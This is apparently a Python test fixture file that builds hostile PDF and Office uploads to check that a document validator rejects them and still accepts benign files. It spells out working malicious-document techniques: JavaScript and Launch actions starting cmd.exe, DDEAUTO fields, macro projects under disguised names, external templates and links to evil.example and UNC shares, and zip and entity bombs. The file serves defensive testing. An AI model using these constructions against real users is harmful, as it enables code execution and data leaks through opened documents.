# ruff: noqa: E501  (fixture data: one hostile file per entry, read best unwrapped)
"""Hostile uploads, built by code at test time (no committed binaries).

Each case is (id, file name, bytes, the words its refusal must contain). They
reproduce what a hostile probe got past the old byte-matching checks, and
their neighbours: hex-escaped names, scripts inside compressed object streams,
encryption, XFA, actions that open other files or addresses, PDF/HTML
polyglots; Office packages with macros under other names and content types,
external templates and links, DDE fields, ActiveX, embedded OLE, and zips
whose directory lies.
"""

from __future__ import annotations

import io
import struct
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from docx import Document
from openpyxl import Workbook

CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


@dataclass(frozen=True)
class Case:
    id: str
    name: str
    build: Callable[[], bytes]
    message: str


# ---------------------------------------------------------------- PDFs

JS = "contains JavaScript"
ACTION = "contains an action that"
ATTACH = "embedded files"
MEDIA = "embedded media"
HTML = "web page code"
DAMAGED = "damaged"
XFA = "XFA form"


def raw_pdf(*extra: bytes, catalog: bytes = b"", page: bytes = b"", tail: bytes = b"") -> bytes:
    """A classic PDF with a correct xref table: objects 1-3 are catalog, pages, page;
    `extra` become objects 4, 5, ... and may refer to each other."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        *extra,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref)
    )
    return out.getvalue() + tail


def js_action(name: bytes = b"/JavaScript", key: bytes = b"/JS") -> bytes:
    return b"<< /Type /Action /S " + name + b" " + key + b" (app.alert(1)) >>"


def link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A " + action + b" >>"


def pike_pdf(setup: Callable[[pikepdf.Pdf], None], **save: object) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    setup(pdf)
    out = io.BytesIO()
    pdf.save(out, **save)  # type: ignore[arg-type]
    return out.getvalue()


def with_open_js(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )


def plain(pdf: pikepdf.Pdf) -> None:
    """Nothing added: a blank page."""


OBJECT_STREAMS = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "compress_streams": True}


def misplaced_xref() -> bytes:
    good = raw_pdf()
    return good.replace(b"startxref\n", b"startxref\n1").replace(b"0000000009", b"0000000001")


PDF_CASES = [
    Case("open-action-js", "a.pdf", lambda: raw_pdf(js_action(), catalog=b"/OpenAction 4 0 R"), JS),
    Case(
        "hex-escaped-s",
        "a.pdf",
        lambda: raw_pdf(js_action(b"/J#61vaScript"), catalog=b"/OpenAction 4 0 R"),
        JS,
    ),
    Case(
        "hex-escaped-js-key",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (x) >>", catalog=b"/OpenAction 4 0 R"
        ),
        JS,
    ),
    Case(
        "js-direct-in-catalog", "a.pdf", lambda: raw_pdf(catalog=b"/OpenAction " + js_action()), JS
    ),
    Case(
        "names-tree-js",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /Names [(x) 5 0 R] >>", js_action(), catalog=b"/Names << /JavaScript 4 0 R >>"
        ),
        JS,
    ),
    Case("js-in-link", "a.pdf", lambda: raw_pdf(page=b"/Annots [" + link(js_action()) + b"]"), JS),
    Case("js-in-page-aa", "a.pdf", lambda: raw_pdf(page=b"/AA << /O " + js_action() + b" >>"), JS),
    Case(
        "js-in-catalog-aa",
        "a.pdf",
        lambda: raw_pdf(catalog=b"/AA << /WC " + js_action() + b" >>"),
        JS,
    ),
    Case(
        "js-in-outline",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /Type /Outlines /First 5 0 R /Last 5 0 R /Count 1 >>",
            b"<< /Title (x) /Parent 4 0 R /A " + js_action() + b" >>",
            catalog=b"/Outlines 4 0 R",
        ),
        JS,
    ),
    Case(
        "js-in-stream-dict",
        "a.pdf",
        lambda: raw_pdf(b"<< /Length 0 /JS (x) >>\nstream\n\nendstream"),
        JS,
    ),
    Case("js-in-object-stream", "a.pdf", lambda: pike_pdf(with_open_js, **OBJECT_STREAMS), JS),
    Case(
        "js-in-object-stream-no-compress-flag",
        "a.pdf",
        lambda: pike_pdf(with_open_js, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        JS,
    ),
    Case(
        "js-in-field-aa",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /FT /Tx /T (f) /AA << /K " + js_action() + b" >> >>",
            catalog=b"/AcroForm << /Fields [4 0 R] >>",
        ),
        JS,
    ),
    Case(
        "launch",
        "a.pdf",
        lambda: raw_pdf(b"<< /S /Launch /F (calc.exe) >>", catalog=b"/OpenAction 4 0 R"),
        "starts a program",
    ),
    Case(
        "launch-hex",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /S /L#61unch /Win << /F (cmd.exe) >> >>", catalog=b"/OpenAction 4 0 R"
        ),
        "starts a program",
    ),
    Case(
        "launch-in-link",
        "a.pdf",
        lambda: raw_pdf(page=b"/Annots [" + link(b"<< /S /Launch /F (x.exe) >>") + b"]"),
        "starts a program",
    ),
    Case(
        "submit-form",
        "a.pdf",
        lambda: raw_pdf(
            page=b"/Annots [" + link(b"<< /S /SubmitForm /F (https://evil.example/) >>") + b"]"
        ),
        "sends form data",
    ),
    Case(
        "gotor",
        "a.pdf",
        lambda: raw_pdf(
            page=b"/Annots ["
            + link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")
            + b"]"
        ),
        "opens another PDF",
    ),
    Case(
        "gotoe",
        "a.pdf",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /GoToE /D [0 /Fit] /T << /R /C /N (x) >> >>"),
        "opens an embedded PDF",
    ),
    Case(
        "import-data",
        "a.pdf",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /ImportData /F (data.fdf) >>"),
        "imports data",
    ),
    Case(
        "uri-open-action",
        "a.pdf",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /URI /URI (https://evil.example/) >>"),
        "opens a web address",
    ),
    Case(
        "uri-page-open",
        "a.pdf",
        lambda: raw_pdf(page=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >>"),
        "opens a web address",
    ),
    Case(
        "uri-via-next",
        "a.pdf",
        lambda: raw_pdf(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>"
        ),
        "opens a web address",
    ),
    Case(
        "uri-open-action-indirect",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /S /U#52I /URI (https://evil.example/) >>", catalog=b"/OpenAction 4 0 R"
        ),
        "opens a web address",
    ),
    Case(
        "rendition",
        "a.pdf",
        lambda: raw_pdf(page=b"/Annots [" + link(b"<< /S /Rendition /OP 0 >>") + b"]"),
        "plays embedded media",
    ),
    Case(
        "sound",
        "a.pdf",
        lambda: raw_pdf(catalog=b"/OpenAction << /S /Sound /Sound 4 0 R >>"),
        "plays embedded media",
    ),
    Case(
        "richmedia-annot",
        "a.pdf",
        lambda: raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 1 1] >>]"),
        MEDIA,
    ),
    Case(
        "3d-annot",
        "a.pdf",
        lambda: raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 1 1] >>]"),
        MEDIA,
    ),
    Case(
        "xfa",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /Length 0 >>\nstream\n\nendstream",
            catalog=b"/AcroForm << /Fields [] /XFA [(template) 4 0 R] >>",
        ),
        XFA,
    ),
    Case("needs-rendering", "a.pdf", lambda: raw_pdf(catalog=b"/NeedsRendering true"), XFA),
    Case(
        "embedded-files",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
            catalog=b"/Names << /EmbeddedFiles << /Names [(x.exe) 4 0 R] >> >>",
        ),
        ATTACH,
    ),
    Case(
        "file-attachment-annot",
        "a.pdf",
        lambda: raw_pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 1 1] /FS << /Type /Filespec /F (x) >> >>]"
        ),
        ATTACH,
    ),
    Case(
        "filespec-ef-only",
        "a.pdf",
        lambda: raw_pdf(
            b"<< /Type /Filespec /F (x.exe) /EF << /F 5 0 R >> >>",
            b"<< /Length 2 >>\nstream\nMZ\nendstream",
        ),
        ATTACH,
    ),
    Case(
        "user-password",
        "a.pdf",
        lambda: pike_pdf(plain, encryption=pikepdf.Encryption(user="secret", owner="owner")),
        "protected with a password",
    ),
    Case(
        "owner-password-only",
        "a.pdf",
        lambda: pike_pdf(plain, encryption=pikepdf.Encryption(user="", owner="owner")),
        "encrypted",
    ),
    Case(
        "js-in-encrypted-object-stream",
        "a.pdf",
        lambda: pike_pdf(
            with_open_js,
            encryption=pikepdf.Encryption(user="", owner="o", aes=True),
            **OBJECT_STREAMS,
        ),
        "encrypted",
    ),
    Case(
        "html-after-header",
        "a.pdf",
        lambda: raw_pdf().replace(
            b"%PDF-1.7\n", b"%PDF-1.7\n<html><body><script>alert(1)</script></body></html>\n", 1
        ),
        HTML,
    ),
    Case("html-after-eof", "a.pdf", lambda: raw_pdf(tail=b"<!DOCTYPE html><p>hi</p>"), HTML),
    Case(
        "svg-in-stream",
        "a.pdf",
        lambda: raw_pdf(b"<< /Length 30 >>\nstream\n<svg onload=alert(1)></svg>  \nendstream"),
        HTML,
    ),
    Case("header-only", "a.pdf", lambda: b"%PDF-1.7\n1 0 obj\n", DAMAGED),
    Case("broken-xref", "a.pdf", misplaced_xref, DAMAGED),
    Case("header-then-garbage", "a.pdf", lambda: b"%PDF-1.4\n" + b"\x00" * 2000, DAMAGED),
]


# ---------------------------------------------------------------- Office

MACROS = "contains macros"
ACTIVEX = "ActiveX"
EMBEDDED = "embedded object"
EXTERNAL = "outside itself"
DDE = "(DDE or INCLUDETEXT)"
LYING = "table of contents does not match"
BOMB = "zip bomb"
KIND = "kind we do not accept"

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def docx_bytes(paragraph: str = "IMR body") -> bytes:
    buffer = io.BytesIO()
    document = Document()
    document.add_paragraph(paragraph)
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    buffer = io.BytesIO()
    workbook = Workbook()
    workbook.active.append(["Date", "What happened"])
    workbook.active.append(["01/02/2024", "Seen by GP"])
    workbook.save(buffer)
    return buffer.getvalue()


def rezip(
    base: bytes,
    add: dict[str, bytes] | None = None,
    edit: dict[str, Callable[[bytes], bytes]] | None = None,
) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(base)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for name in src.namelist():
            data = src.read(name)
            if edit and name in edit:
                data = edit[name](data)
            dst.writestr(name, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def add_type(xml: str) -> Callable[[bytes], bytes]:
    return lambda types: types.replace(b"</Types>", xml.encode() + b"</Types>")


def add_rel(xml: str) -> Callable[[bytes], bytes]:
    return lambda rels: rels.replace(b"</Relationships>", xml.encode() + b"</Relationships>")


def docx_with(
    add: dict[str, bytes] | None = None,
    types: str = "",
    rels: str = "",
    settings_rels: str = "",
    body: str = "",
) -> bytes:
    edit: dict[str, Callable[[bytes], bytes]] = {}
    if types:
        edit["[Content_Types].xml"] = add_type(types)
    if rels:
        edit["word/_rels/document.xml.rels"] = add_rel(rels)
    if body:
        edit["word/document.xml"] = lambda doc: doc.replace(
            b"</w:body>", body.encode() + b"</w:body>"
        )
    add = dict(add or {})
    if settings_rels:
        add["word/_rels/settings.xml.rels"] = (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            + settings_rels
            + "</Relationships>"
        ).encode()
    return rezip(docx_bytes(), add, edit)


def field(code: str) -> str:
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{code}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def external_rel(kind: str, target: str = "https://evil.example/x.dotm") -> str:
    return f'<Relationship Id="rId99" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'


def main_type_to(new: bytes) -> Callable[[bytes], bytes]:
    return lambda types: types.replace(b"wordprocessingml.document.main+xml", new)


def xlsx_with(
    add: dict[str, bytes] | None = None,
    types: str = "",
    sheet: Callable[[bytes], bytes] | None = None,
) -> bytes:
    edit: dict[str, Callable[[bytes], bytes]] = {}
    if types:
        edit["[Content_Types].xml"] = add_type(types)
    if sheet:
        edit["xl/worksheets/sheet1.xml"] = sheet
    return rezip(xlsx_bytes(), add, edit)


def dde_formula(xml: bytes) -> bytes:
    return xml.replace(b"</row>", b"<c r=\"C1\"><f>cmd|' /c calc'!A0</f></c></row>", 1)


def patch_sizes(data: bytes, name: str, declared: int) -> bytes:
    """Rewrite the declared uncompressed size of `name` in both its headers."""
    out = bytearray(data)
    encoded = name.encode()
    position = 0
    while (position := data.find(encoded, position + 1)) != -1:
        for signature, size_at, name_len_at in ((b"PK\x03\x04", 22, 26), (b"PK\x01\x02", 24, 28)):
            header = position - (30 if signature == b"PK\x03\x04" else 46)
            if header >= 0 and data[header : header + 4] == signature:
                (length,) = struct.unpack_from("<H", data, header + name_len_at)
                if length == len(encoded):
                    struct.pack_into("<I", out, header + size_at, declared)
    return bytes(out)


def lying_bomb(actual: int, declared: int = 1024) -> bytes:
    """A real .xlsx plus a part of `actual` zero bytes whose headers claim `declared` bytes."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for name in src.namelist():
            dst.writestr(name, src.read(name))
        with dst.open("xl/media/pad.png", "w") as pad:
            block = b"\0" * (1024 * 1024)
            for _ in range(actual // len(block)):
                pad.write(block)
    return patch_sizes(out.getvalue(), "xl/media/pad.png", declared)


def bad_crc() -> bytes:
    data = bytearray(rezip(docx_bytes(), {"word/media/extra.png": b"not really a picture" * 10}))
    directory = bytes(data).rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, directory + 16, 0xDEADBEEF)
    return bytes(data)


def renamed_local_header() -> bytes:
    data = rezip(docx_bytes(), {"word/media/zzzz.png": b"x" * 100})
    first = data.find(b"word/media/zzzz.png")
    return data[:first] + b"word/media/yyyy.png" + data[first + len("word/media/zzzz.png") :]


def duplicate_parts() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as src, zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():
            dst.writestr(name, src.read(name))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            dst.writestr("word/document.xml", b"<w:document/>")
    return out.getvalue()


def bzip2_part() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(docx_bytes())) as src, zipfile.ZipFile(out, "w") as dst:
        for name in src.namelist():
            dst.writestr(name, src.read(name), compress_type=zipfile.ZIP_BZIP2)
    return out.getvalue()


def encrypted_flag() -> bytes:
    data = bytearray(docx_bytes())
    directory = bytes(data).find(b"PK\x01\x02")
    data[directory + 8] |= 0x1
    return bytes(data)


def too_many_parts() -> bytes:
    return rezip(xlsx_bytes(), {f"xl/p{i}.xml": b"" for i in range(5_001)})


def real_bomb() -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx_bytes())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst,
    ):
        for name in src.namelist():
            dst.writestr(name, src.read(name))
        with dst.open("xl/padding.bin", "w", force_zip64=True) as pad:
            for _ in range(400):
                pad.write(b"\0" * (1024 * 1024))
    return out.getvalue()


def entity_bomb(types: bytes) -> bytes:
    return types.replace(
        b"<Types", b'<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><Types', 1
    )


VBA = (
    '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
)

OFFICE_CASES = [
    Case(
        "docm-main-and-project",
        "a.docx",
        lambda: docx_with(
            {"word/vbaProject.bin": CFB},
            types=VBA,
            rels='<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>',
        ),
        MACROS,
    ),
    Case(
        "docm-content-type-only",
        "a.docx",
        lambda: rezip(
            docx_bytes(),
            edit={"[Content_Types].xml": main_type_to(b"ms-word.document.macroEnabled.main+xml")},
        ),
        MACROS,
    ),
    Case(
        "xlsm-content-type",
        "a.xlsx",
        lambda: rezip(
            xlsx_bytes(),
            edit={
                "[Content_Types].xml": lambda t: t.replace(
                    b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
                )
            },
        ),
        MACROS,
    ),
    Case(
        "project-renamed-with-type",
        "a.docx",
        lambda: docx_with(
            {"word/data.bin": CFB},
            types='<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        MACROS,
    ),
    Case(
        "project-renamed-as-picture",
        "a.docx",
        lambda: docx_with({"word/media/image9.png": CFB + b"Attribute VB_Name"}),
        MACROS,
    ),
    Case(
        "project-default-bin-type",
        "a.docx",
        lambda: docx_with(
            {"word/stuff.bin": b"VBA"},
            types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        MACROS,
    ),
    Case(
        "project-by-relationship-only",
        "a.docx",
        lambda: docx_with(
            {"word/custom.dat": b"x"},
            rels='<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="custom.dat"/>',
        ),
        MACROS,
    ),
    Case(
        "project-under-any-folder",
        "a.xlsx",
        lambda: xlsx_with({"docProps/VBAPROJECT.BIN": b"macro"}),
        MACROS,
    ),
    Case(
        "vba-data",
        "a.docx",
        lambda: docx_with(
            {"word/vbaData.xml": b"<x/>"},
            types='<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>',
        ),
        MACROS,
    ),
    Case(
        "keymap",
        "a.docx",
        lambda: docx_with(
            {"word/customizations.xml": b"<x/>"},
            types='<Override PartName="/word/customizations.xml" ContentType="application/vnd.ms-word.keyMapCustomizations+xml"/>',
        ),
        MACROS,
    ),
    Case(
        "attached-toolbars",
        "a.docx",
        lambda: docx_with(
            {"word/attachedToolbars.bin": b"x"},
            rels='<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/attachedToolbars" Target="attachedToolbars.bin"/>',
        ),
        MACROS,
    ),
    Case(
        "xlm-macrosheet",
        "a.xlsx",
        lambda: xlsx_with(
            {"xl/macrosheets/sheet1.xml": b"<x/>"},
            types='<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
        ),
        MACROS,
    ),
    Case(
        "xlm-intl-macrosheet",
        "a.xlsx",
        lambda: xlsx_with(
            {"xl/sheets/m.xml": b"<x/>"},
            types='<Override PartName="/xl/sheets/m.xml" ContentType="application/vnd.ms-excel.intlmacrosheet+xml"/>',
        ),
        MACROS,
    ),
    Case(
        "xlsb-binary",
        "a.xlsx",
        lambda: xlsx_with(
            types='<Override PartName="/xl/x.bin" ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/>'
        ),
        MACROS,
    ),
    Case(
        "external-template",
        "a.docx",
        lambda: docx_with(settings_rels=external_rel("attachedTemplate")),
        EXTERNAL,
    ),
    Case(
        "external-ole",
        "a.docx",
        lambda: docx_with(rels=external_rel("oleObject", "file:///c:/x.xls")),
        EXTERNAL,
    ),
    Case(
        "external-frame",
        "a.docx",
        lambda: docx_with(rels=external_rel("frame", "https://evil.example/")),
        EXTERNAL,
    ),
    Case(
        "external-subdocument",
        "a.docx",
        lambda: docx_with(rels=external_rel("subDocument", "\\\\evil\\share\\x.docx")),
        EXTERNAL,
    ),
    Case(
        "external-image",
        "a.docx",
        lambda: docx_with(rels=external_rel("image", "https://evil.example/track.png")),
        EXTERNAL,
    ),
    Case(
        "external-mode-lowercase",
        "a.docx",
        lambda: docx_with(rels=external_rel("attachedTemplate").replace("External", "external")),
        EXTERNAL,
    ),
    Case(
        "xlsx-external-link",
        "a.xlsx",
        lambda: xlsx_with(
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
            }
        ),
        EXTERNAL,
    ),
    Case(
        "ddeauto",
        "a.docx",
        lambda: docx_with(
            body=field(instr(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '))
        ),
        DDE,
    ),
    Case("dde", "a.docx", lambda: docx_with(body=field(instr('DDE "c:\\\\x.exe" "y"'))), DDE),
    Case(
        "dde-split-runs",
        "a.docx",
        lambda: docx_with(body=field(instr(" DD") + instr("EAU") + instr('TO cmd "/c calc"'))),
        DDE,
    ),
    Case(
        "dde-lowercase",
        "a.docx",
        lambda: docx_with(body=field(instr('   ddeauto cmd "/c calc"'))),
        DDE,
    ),
    Case(
        "dde-fldsimple",
        "a.docx",
        lambda: docx_with(
            body="<w:p><w:fldSimple w:instr='DDEAUTO cmd \"/c calc\"'><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
        ),
        DDE,
    ),
    Case(
        "includetext",
        "a.docx",
        lambda: docx_with(body=field(instr('INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"'))),
        DDE,
    ),
    Case(
        "dde-in-header",
        "a.docx",
        lambda: docx_with(
            {
                "word/header9.xml": f'<w:hdr xmlns:w="{W}">{field(instr("DDEAUTO cmd x"))}</w:hdr>'.encode()
            }
        ),
        DDE,
    ),
    Case("xlsx-dde-formula", "a.xlsx", lambda: xlsx_with(sheet=dde_formula), DDE),
    Case(
        "activex-part",
        "a.docx",
        lambda: docx_with(
            {"word/activeX/activeX1.xml": b"<x/>"},
            types='<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>',
        ),
        ACTIVEX,
    ),
    Case(
        "activex-binary", "a.docx", lambda: docx_with({"word/activeX/activeX1.bin": CFB}), ACTIVEX
    ),
    Case(
        "activex-relationship",
        "a.docx",
        lambda: docx_with(
            {"word/ctl.xml": b"<x/>"},
            rels=f'<Relationship Id="rId97" Type="{REL}/control" Target="ctl.xml"/>',
        ),
        ACTIVEX,
    ),
    Case(
        "embedded-ole",
        "a.docx",
        lambda: docx_with({"word/embeddings/oleObject1.bin": CFB}),
        EMBEDDED,
    ),
    Case(
        "embedded-ole-type",
        "a.docx",
        lambda: docx_with(
            {"word/obj.dat": b"x"},
            types='<Override PartName="/word/obj.dat" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        ),
        EMBEDDED,
    ),
    Case(
        "embedded-package",
        "a.docx",
        lambda: docx_with(
            {"word/x.docx": b"PK"},
            rels=f'<Relationship Id="rId96" Type="{REL}/package" Target="x.docx"/>',
        ),
        EMBEDDED,
    ),
    Case("lying-directory-bomb", "a.xlsx", lambda: lying_bomb(320 * 1024 * 1024), BOMB),
    Case("lying-directory-small", "a.xlsx", lambda: lying_bomb(8 * 1024 * 1024), LYING),
    Case("bad-crc", "a.docx", bad_crc, LYING),
    Case("local-name-differs", "a.docx", renamed_local_header, LYING),
    Case("duplicate-parts", "a.docx", duplicate_parts, LYING),
    Case("bzip2-parts", "a.docx", bzip2_part, LYING),
    Case("encrypted-entry", "a.docx", encrypted_flag, "password"),
    Case(
        "entity-expansion",
        "a.docx",
        lambda: rezip(docx_bytes(), edit={"[Content_Types].xml": entity_bomb}),
        "damaged",
    ),
    Case(
        "template-main-part",
        "a.docx",
        lambda: rezip(
            docx_bytes(),
            edit={"[Content_Types].xml": main_type_to(b"wordprocessingml.template.main+xml")},
        ),
        KIND,
    ),
    Case("directory-bomb", "a.xlsx", real_bomb, BOMB),
    Case("too-many-parts", "a.xlsx", too_many_parts, "parts"),
    Case("ole-container", "a.docx", lambda: CFB, "password"),
]


def weasyprint_pdf() -> bytes:
    from weasyprint import HTML

    return HTML(
        string="<h1>IMR</h1><p>Seen by the GP. <a href='https://www.gov.uk/'>Guidance</a></p>"
    ).write_pdf()


BENIGN = [
    Case("weasyprint-pdf-with-link", "imr.pdf", weasyprint_pdf, "pdf"),
    Case(
        "pikepdf-pdf-object-streams",
        "imr.pdf",
        lambda: pike_pdf(lambda pdf: None, **OBJECT_STREAMS),
        "pdf",
    ),
    Case("python-docx", "imr.docx", docx_bytes, "docx"),
    Case(
        "docx-with-hyperlink",
        "imr.docx",
        lambda: docx_with(rels=external_rel("hyperlink", "https://www.gov.uk/")),
        "docx",
    ),
    Case(
        "docx-with-page-field", "imr.docx", lambda: docx_with(body=field(instr(" PAGE "))), "docx"
    ),
    Case("openpyxl", "chronology.xlsx", xlsx_bytes, "xlsx"),
    Case(
        "openpyxl-sum-formula",
        "chronology.xlsx",
        lambda: xlsx_with(
            sheet=lambda x: x.replace(b"</row>", b'<c r="C1"><f>SUM(A1:B1)</f></c></row>', 1)
        ),
        "xlsx",
    ),
]
